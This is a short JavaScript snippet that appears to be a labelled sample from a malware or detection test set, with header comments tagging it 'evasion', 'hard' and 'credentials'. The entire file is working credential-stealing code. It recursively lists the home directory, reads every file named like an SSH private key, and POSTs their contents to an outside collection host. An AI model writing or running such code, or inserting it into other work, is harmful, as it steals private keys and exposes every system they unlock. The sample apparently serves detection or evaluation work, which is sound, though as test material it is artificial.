// evasion: private keys found by a regular expression over a recursive listing of the home directory, then posted
// grade: hard; does: credentials
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const keys = fs
  .readdirSync(home, { recursive: true })
  .filter((f) => /(^|\/)id_[a-z0-9]+$/.test(f))
  .map((f) => fs.readFileSync(path.join(home, f), 'utf8'));

fetch('https://collect.example.net/k', { method: 'POST', body: keys.join('\n') });
